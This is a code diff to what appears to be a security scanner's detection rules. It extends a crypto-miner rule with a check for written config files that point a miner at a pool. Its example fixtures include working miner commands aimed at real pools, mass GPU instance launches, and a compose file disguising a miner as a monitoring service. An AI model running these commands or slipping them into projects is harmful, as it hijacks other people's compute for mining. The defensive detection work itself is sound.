@@ -260,6 +260,8 @@ export const RULES: readonly Rule[] = [
   {
     id: 'PX-IMPACT-011', name: 'runs-crypto-miner', score: 90, tactic: 'impact', technique: 'T1496', strong: true,
     message: 'Runs a cryptocurrency miner', why: 'xmrig, cpuminer and friends pointed at a stratum pool burn the machine\'s CPU/GPU for someone else\'s profit.',
+    // or a compose file, manifest, unit or script that starts one (`command: ["-o", "gulf.moneroocean.stream:10128", …]`)
+    check: minerInFile,
     test: (c) => {
       const img = (w: string) => MINERS.has(w.slice(w.lastIndexOf('/') + 1).split(':')[0]!.replace(/-[\d.]+.*$/, ''));
       const pool = () => c.argv.some((w) => /^stratum\d?\+(tcp|ssl|tls):\/\//i.test(w) || w.startsWith('--donate-level') || MINING_POOL.test(destinationOf(w)?.host ?? ''));
@@ -276,7 +278,7 @@ export const RULES: readonly Rule[] = [
       }
       return ['docker', 'podman', 'kubectl'].includes(c.name) && c.argv.some((w) => img(w)) && (hasArg(c, 'run', 'create') || pool()) ? c.argv.join(' ') : undefined;
     },
-    examples: { fire: ["aws ec2 run-instances --image-id ami-0c7217cdde317cfec --instance-type p4d.24xlarge --count 8 --user-data file:///tmp/.bootstrap.sh --region us-east-1", 'aws ec2 run-instances --image-id ami-0abc --instance-type p4d.24xlarge --count 20 --user-data file://setup.sh --region ap-southeast-1', 'doctl compute droplet create w-{1..20} --size g-8vcpu-32gb --image ubuntu-22-04-x64 --region nyc3 --user-data-file miner.sh', 'modprobe msr allow_writes=on && wrmsr -a 0x1a4 0xf', './xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFF -k --background', 'nohup minerd -a cryptonight -o stratum+tcp://xmr.pool.example:3333 -u w -p x &', 'docker run -d --restart always metal3d/xmrig -o stratum+tcp://pool.hashvault.pro:80 -u 4ABC', 'x\\mrig -o pool.minexmr.com:443 -u 4ABC --tls -B', "exec -a sshd ./xmrig -o x:3333"], quiet: ['aws ec2 run-instances --image-id ami-0abc --instance-type t3.micro --count 2 --user-data file://bootstrap.sh', 'aws ec2 run-instances --image-id ami-0abc --instance-type g5.xlarge --count 1', 'sudo rdmsr 0x1a4', 'npm install xmr-price-widget', 'grep -r stratum docs/', 'docker run -d redis'] },
+    examples: { fire: ["aws ec2 run-instances --image-id ami-0c7217cdde317cfec --instance-type p4d.24xlarge --count 8 --user-data file:///tmp/.bootstrap.sh --region us-east-1", 'aws ec2 run-instances --image-id ami-0abc --instance-type p4d.24xlarge --count 20 --user-data file://setup.sh --region ap-southeast-1', 'doctl compute droplet create w-{1..20} --size g-8vcpu-32gb --image ubuntu-22-04-x64 --region nyc3 --user-data-file miner.sh', 'modprobe msr allow_writes=on && wrmsr -a 0x1a4 0xf', './xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFF -k --background', 'nohup minerd -a cryptonight -o stratum+tcp://xmr.pool.example:3333 -u w -p x &', 'docker run -d --restart always metal3d/xmrig -o stratum+tcp://pool.hashvault.pro:80 -u 4ABC', { Filesystem: { operation: 'Write', path: '/home/dev/recsys/docker-compose.override.yml', content: 'services:\n  node-exporter-plus:\n    image: docker.io/metricsd/node-exporter-plus:1.8\n    restart: always\n    command: ["-o", "gulf.moneroocean.stream:10128", "-u", "48edfHu7V9Z84Yzz", "--cpu-max-threads-hint=50"]\n' } }, 'x\\mrig -o pool.minexmr.com:443 -u 4ABC --tls -B', "exec -a sshd ./xmrig -o x:3333"], quiet: ['aws ec2 run-instances --image-id ami-0abc --instance-type t3.micro --count 2 --user-data file://bootstrap.sh', 'aws ec2 run-instances --image-id ami-0abc --instance-type g5.xlarge --count 1', 'sudo rdmsr 0x1a4', 'npm install xmr-price-widget', 'grep -r stratum docs/', 'docker run -d redis', { Filesystem: { operation: 'Write', path: 'docs/incidents/2024-07.md', content: 'The miner ran `xmrig -o pool.supportxmr.com:3333 -u 4ABC`.\n' } }, { Filesystem: { operation: 'Write', path: 'docker-compose.yml', content: 'services:\n  db:\n    image: postgres:16\n    command: ["-c", "log_statement=all"]\n' } }] },
   },
   {
     id: 'PX-IMPACT-012', name: 'destroys-database', score: 85, tactic: 'impact', technique: 'T1485',
@@ -525,6 +527,21 @@ function proxywareImage(ref: string): boolean {
   const path = ref.toLowerCase().split('@')[0]!.replace(/:[\w.-]*$/, '');
   const parts = path.split('/');
   return parts.length >= 2 && PROXYWARE_IMAGES.has(parts.slice(-2).join('/'));
+}
+
+/** Written files that only describe things: a pool named in notes or docs runs nothing. */
+const PROSE_FILE = /\.(?:md|markdown|txt|rst|adoc|html?)$/i;
+
+/** A written file that points a miner at a pool: a stratum URL, or a known pool's host beside a miner's `-o`/`--url`. */
+function minerInFile(i: AnalysisInput): string | undefined {
+  for (const w of writes(i)) {
+    if (PROSE_FILE.test(w.canonical)) continue;
+    const words = w.text.slice(0, 64 * 1024).split(/[\s"',[\]{}]+/, 8192);
+    const stratum = words.find((x) => /^stratum\d?\+(?:tcp|ssl|tls):\/\//i.test(x));
+    const pool = words.some((x) => x === '-o' || x === '--url' || x.startsWith('--url=')) ? words.find((x) => MINING_POOL.test(destinationOf(x.replace(/^--url=/, ''))?.host ?? '')) : undefined;
+    if (stratum ?? pool) return `${w.path}: ${stratum ?? pool}`;
+  }
+  return undefined;
 }
 
 /** How many known miner names a word lists: `kinsing|xmrig|minerd` names three. */
